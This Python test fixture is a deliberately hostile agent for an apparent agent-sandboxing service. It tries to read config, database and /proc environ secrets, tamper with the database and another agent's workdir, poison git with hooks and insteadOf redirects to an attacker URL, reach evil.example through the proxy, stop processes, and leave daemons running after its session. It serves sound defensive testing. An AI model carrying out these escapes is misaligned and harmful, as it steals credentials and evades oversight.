"""A hostile `command` agent: it tries every attack of issue 10's items 1-6 and issue 19's
network ones, and writes what each attempt got into `report.json` in its workdir (the only place
it can write).

Given `result_file` instead (issue 19), it commits to its session's branch and writes that
text as its forge requests (`$CLAUDE_HOOKS_RESULT`): a file built to make the service raise,
or requests aimed at a stranger's pull request.

The test (tests/e2e/test_hostile_agent.py) hands it the targets in the task's payload: the
service's pid, its data dir, config file and database, another type's workdir, a URL to send
stolen tokens to and a file a planted hook would create. Standard library only.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

task = json.load(sys.stdin)
target: dict[str, Any] = task["payload"]["target"]
report: dict[str, Any] = {"uid": os.getuid(), "env": dict(os.environ)}


def attempt(name: str, action: Any) -> None:
    try:
        report[name] = {"ok": True, "got": str(action())[:2000]}
    except Exception as exc:  # every failure is the expected outcome
        report[name] = {"ok": False, "error": f"{exc.__class__.__name__}: {exc}"}


def read(path: str) -> str:
    return Path(path).read_bytes().decode("utf-8", "replace")


def every_environ() -> str:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found.append((entry / "environ").read_bytes().decode("utf-8", "replace"))
            except OSError:
                continue
    return "\n".join(found)


def update_db() -> str:
    db = sqlite3.connect(target["database"], timeout=1)
    db.execute('UPDATE tasks SET payload = \'{"title": "hijacked"}\'')
    db.commit()
    return "updated"


def append(path: str, text: str) -> str:
    with open(path, "a") as out:
        out.write(text)
    return "appended"


def plant_in_other_workdir() -> str:
    Path(target["other_workdir"], "planted.txt").write_text("planted by dev\n")
    return "planted"


def git(*args: str) -> str:
    return subprocess.run(["git", *args], capture_output=True, text=True, check=True).stdout


def poison_git() -> str:
    """insteadOf to a server that records tokens, and hooks that create a marker file."""
    hooks = Path("evil-hooks")
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "reference-transaction", "pre-push", "post-merge", "pre-commit"):
        hook = hooks / name
        hook.write_text(f"#!/bin/sh\ntouch {target['hook_marker']}\n")
        hook.chmod(0o755)
        planted = Path(".git/hooks") / name
        planted.write_text(hook.read_text())
        planted.chmod(0o755)
    git("config", "core.hooksPath", str(hooks.resolve()))
    for url in (target["clone_url"], target["mirror"], "file://", "/"):
        git("config", "--add", f"url.{target['attacker_url']}.insteadOf", url)
    git("config", "--add", "include.path", str(Path("evil.config").resolve()))
    Path("evil.config").write_text(f"[core]\n\tfsmonitor = touch {target['hook_marker']}\n")
    return "poisoned"


def commit_on_main_and_branch() -> str:
    branch = git("branch", "--show-current").strip()
    Path("feature.txt").write_text("the feature\n")
    git("-c", "core.hooksPath=/dev/null", "add", "feature.txt")
    git("-c", "core.hooksPath=/dev/null", "commit", "-q", "--no-verify", "-m", "Add the feature")
    git("branch", "-f", "main", "HEAD")  # the service must push only the session's branch
    return branch


def daemons() -> str:
    """A grandchild left in the group, and a setsid'd one, both outliving the task."""
    code = (
        "import sys, time\n"
        "while True:\n"
        "    open('heartbeat', 'a').write('x')\n"
        "    time.sleep(0.05)\n"
    )
    marker = target["daemon_marker"]
    subprocess.Popen([sys.executable, "-c", code, marker])
    subprocess.Popen([sys.executable, "-c", code, marker], start_new_session=True)
    return "started"


if "result_file" in target:
    Path("feature.txt").write_text("the feature\n")
    git("-c", "core.hooksPath=/dev/null", "add", "feature.txt")
    git("-c", "core.hooksPath=/dev/null", "commit", "-q", "--no-verify", "-m", "Add the feature")
    Path(os.environ["CLAUDE_HOOKS_RESULT"]).write_text(target["result_file"])
    sys.exit(0)


def connect(address: tuple[str, int]) -> str:
    with socket.create_connection(address, timeout=2):
        return "connected"


def connect_unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as unix:
        unix.settimeout(2)
        unix.connect(path)
        return "connected"


def through_proxy(url: str) -> str:
    """A request sent to the proxy the environment names, even for a loopback address (which
    NO_PROXY would send straight to the sandbox's own loopback)."""
    proxy = os.environ["HTTP_PROXY"]
    for name in ("NO_PROXY", "no_proxy"):  # urllib reads them even for an explicit proxy
        os.environ.pop(name, None)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
    with opener.open(url, timeout=10) as answer:
        return str(answer.read().decode())


def https_get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as answer:  # HTTPS_PROXY: a CONNECT
        return str(answer.status)


# First: its own bridge to the proxy is among what "stop_everyone" stops.
if "allowed_url" in target:
    attempt("database_port", lambda: connect(("127.0.0.1", 5432)))
    attempt("database_socket", lambda: connect_unix("/run/postgresql/.s.PGSQL.5432"))
    attempt("service_port", lambda: connect(("127.0.0.1", target["service_port"])))
    attempt("service_port_by_proxy", lambda: through_proxy(f"{target['attacker_url']}steal"))
    for n in range(3):
        attempt(f"unlisted_{n}", lambda: https_get("https://evil.example/"))
    attempt("listed", lambda: through_proxy(target["allowed_url"]))
attempt("read_config", lambda: read(target["config"]))
attempt("read_database", lambda: read(target["database"]))
attempt("update_database", update_db)
attempt("list_data_dir", lambda: os.listdir(target["data_dir"]))
attempt("read_logs", lambda: os.listdir(Path(target["data_dir"], "logs")))
attempt("read_claude_state", lambda: os.listdir(Path(target["data_dir"], "claude")))
attempt("read_other_workdir", lambda: read(str(Path(target["other_workdir"], "secret.txt"))))
attempt("write_other_workdir", plant_in_other_workdir)
attempt("append_config", lambda: append(target["config"], "\n[types.evil]\n"))
attempt("write_system", lambda: append("/etc/hostile", "x"))
attempt("write_mirror_config", lambda: append(str(Path(target["mirror"], "config")), "\n"))
attempt("service_environ", lambda: read(f"/proc/{target['service_pid']}/environ"))
attempt("service_cmdline", lambda: read(f"/proc/{target['service_pid']}/cmdline"))
attempt("every_environ", every_environ)
attempt("stop_service", lambda: os.kill(target["service_pid"], signal.SIGSTOP))
attempt("stop_everyone", lambda: os.kill(-1, signal.SIGSTOP) if os.getuid() != 0 else None)
attempt("commit", commit_on_main_and_branch)
attempt("poison_git", poison_git)
attempt("daemons", daemons)
Path("report.json").write_text(json.dumps(report))
time.sleep(0.3)  # the daemons have started beating
chunk = b"z" * 1024 * 1024
for _ in range(target["log_megabytes"]):
    sys.stdout.buffer.write(chunk)
sys.stdout.flush()
